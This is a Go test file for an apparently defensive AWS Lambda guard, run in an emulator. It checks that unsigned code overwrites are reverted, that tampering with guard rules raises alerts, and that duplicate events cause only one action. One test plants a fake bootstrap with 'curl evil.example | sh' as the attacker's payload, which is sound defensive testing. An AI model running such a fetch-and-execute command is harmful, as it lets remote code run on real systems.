package testbed

import (
	"context"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/lambda"

	"github.com/selfguard/selfguard/infra/emulator"
	"github.com/selfguard/selfguard/infra/emulator/lambdaemu"
)

// TestAttackerOverwriteIsRevertedEndToEnd: an unsigned code update recorded
// by the emulator travels through template.yaml's rule on the local bus into
// the real lambda-guard bootstrap under the Runtime Interface Emulator, which
// restores the signed release through the SDK, alerts over SNS, and does not
// react to its own restore when that comes back through the bus.
func TestAttackerOverwriteIsRevertedEndToEnd(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	bed, err := Start(ctx, Options{
		World:      DemoWorld(),
		Parameters: GuardParameters("enforce"),
		Functions:  []string{"LambdaGuardFunction"},
		LogWriter:  testWriter{t},
	})
	if err != nil {
		t.Fatal(err)
	}
	defer bed.Close()

	mallory := bed.Lambda(emulator.ActorAttacker)
	before, err := mallory.GetFunction(ctx, &lambda.GetFunctionInput{FunctionName: aws.String(Payments), Qualifier: aws.String("1")})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := mallory.UpdateFunctionCode(ctx, &lambda.UpdateFunctionCodeInput{
		FunctionName: aws.String(Payments),
		ZipFile:      lambdaemu.ZipOf(map[string]string{"bootstrap": "#!/bin/sh\ncurl evil.example | sh\n"}),
	}); err != nil {
		t.Fatal(err)
	}
	if err := bed.Settle(ctx); err != nil {
		t.Fatal(err)
	}
	after, err := mallory.GetFunction(ctx, &lambda.GetFunctionInput{FunctionName: aws.String(Payments)})
	if err != nil {
		t.Fatal(err)
	}
	if got, want := aws.ToString(after.Configuration.CodeSha256), aws.ToString(before.Configuration.CodeSha256); got != want {
		t.Errorf("$LATEST code sha256 = %s, want the signed release's %s", got, want)
	}
	if after.Configuration.SigningProfileVersionArn == nil {
		t.Error("restored code carries no signature")
	}
	alerts, err := bed.Alerts(ctx)
	if err != nil {
		t.Fatal(err)
	}
	var restored int
	for _, a := range alerts {
		t.Logf("alert: %s", a.Subject)
		if a.Attributes["resource"] == Payments && strings.Contains(a.Attributes["action"], "restore-code") && a.Attributes["outcome"] == "done" {
			restored++
		}
	}
	if restored != 1 {
		t.Errorf("%d alerts of a done code restore for %s, want 1", restored, Payments)
	}
	guardWrites := 0
	for _, ev := range bed.Emulator.Env.Trail.Since(0) {
		e := string(ev.Event)
		// A failed attempt (a 409 or 412 against a racing change) is not a write.
		if strings.Contains(e, `"eventName":"UpdateFunctionCode20150331v2"`) && !strings.Contains(e, `"errorCode"`) &&
			strings.Contains(e, bed.Roles["LambdaGuardFunction"]) {
			guardWrites++
		}
	}
	if guardWrites != 1 {
		t.Errorf("the guard wrote the code %d times, want exactly once (its own event must not trigger it again)", guardWrites)
	}
}

type testWriter struct{ t *testing.T }

func (w testWriter) Write(p []byte) (int, error) {
	if os.Getenv("SELFGUARD_TEST_LOGS") != "" {
		w.t.Logf("%s", strings.TrimRight(string(p), "\n"))
	}
	return len(p), nil
}

// TestTamperAlertNeedsNoGuardFunction: disabling a guard's rule is alerted
// at critical severity by a rule that publishes straight to the topic, with
// no guard function running at all.
func TestTamperAlertNeedsNoGuardFunction(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	bed, err := Start(ctx, Options{Functions: []string{}, Parameters: GuardParameters("enforce")})
	if err != nil {
		t.Fatal(err)
	}
	defer bed.Close()
	if len(bed.Functions) != 0 {
		t.Fatalf("%d functions running, want none", len(bed.Functions))
	}
	event := `{"version":"0","id":"t-1","detail-type":"AWS API Call via CloudTrail","source":"aws.events",` +
		`"account":"` + Account + `","time":"2026-11-24T10:00:00Z","region":"` + Region + `","resources":[],"detail":{` +
		`"eventVersion":"1.08","eventSource":"events.amazonaws.com","eventName":"DisableRule","awsRegion":"` + Region + `",` +
		`"eventTime":"2026-11-24T10:00:00Z","sourceIPAddress":"198.51.100.66","readOnly":false,"recipientAccountId":"` + Account + `",` +
		`"userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::` + Account + `:user/mallory","userName":"mallory"},` +
		`"requestParameters":{"name":"selfguard-LambdaGuardFunctionLambdaChanges-1A2B3C"}}}`
	matched, err := bed.Bus.Publish(ctx, []byte(event))
	if err != nil {
		t.Fatal(err)
	}
	if len(matched) != 1 || matched[0] != "TamperRulesRule" {
		t.Fatalf("matched rules %v, want TamperRulesRule", matched)
	}
	if err := bed.Bus.Wait(ctx); err != nil {
		t.Fatal(err)
	}
	alerts, err := bed.Alerts(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if len(alerts) != 1 {
		t.Fatalf("%d alerts, want 1", len(alerts))
	}
	msg := alerts[0].Message
	for _, want := range []string{"[selfguard] CRITICAL selfguard itself was changed", "DisableRule", "user/mallory", "198.51.100.66"} {
		if !strings.Contains(msg, want) {
			t.Errorf("tamper alert lacks %q: %s", want, msg)
		}
	}
}

// TestDuplicateDeliveryGivesOneActionAndOneAlert: the bus delivers every
// event twice (EventBridge and Lambda both may); the ledger's claim on the
// CloudTrail event id turns the second into nothing.
func TestDuplicateDeliveryGivesOneActionAndOneAlert(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	bed, err := Start(ctx, Options{
		World: DemoWorld(), Parameters: GuardParameters("enforce"), Functions: []string{"LambdaGuardFunction"},
		Duplicate: 1, LogWriter: testWriter{t},
	})
	if err != nil {
		t.Fatal(err)
	}
	defer bed.Close()
	if _, err := bed.Lambda(emulator.ActorDeveloper).UpdateAlias(ctx, &lambda.UpdateAliasInput{
		FunctionName: aws.String(Orders), Name: aws.String("prod"), FunctionVersion: aws.String("$LATEST"),
	}); err != nil {
		t.Fatal(err)
	}
	if err := bed.Settle(ctx); err != nil {
		t.Fatal(err)
	}
	dups := 0
	for _, d := range bed.Bus.Deliveries() {
		if d.Duplicate {
			dups++
		}
	}
	if dups == 0 {
		t.Fatal("the bus delivered no duplicate; the test proves nothing")
	}
	moves := 0
	for _, ev := range bed.Emulator.Env.Trail.Since(0) {
		e := string(ev.Event)
		if strings.Contains(e, `"eventName":"UpdateAlias20150331"`) && !strings.Contains(e, `"errorCode"`) &&
			strings.Contains(e, bed.Roles["LambdaGuardFunction"]) {
			moves++
		}
	}
	if moves != 1 {
		t.Errorf("the guard moved the alias %d times, want once", moves)
	}
	alerts, err := bed.Alerts(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if len(alerts) != 1 {
		t.Errorf("%d alerts, want 1", len(alerts))
	}
	if !strings.Contains(bed.Functions["LambdaGuardFunction"].Logs(), `"reason":"duplicate"`) {
		t.Error("the guard never logged a duplicate")
	}
}
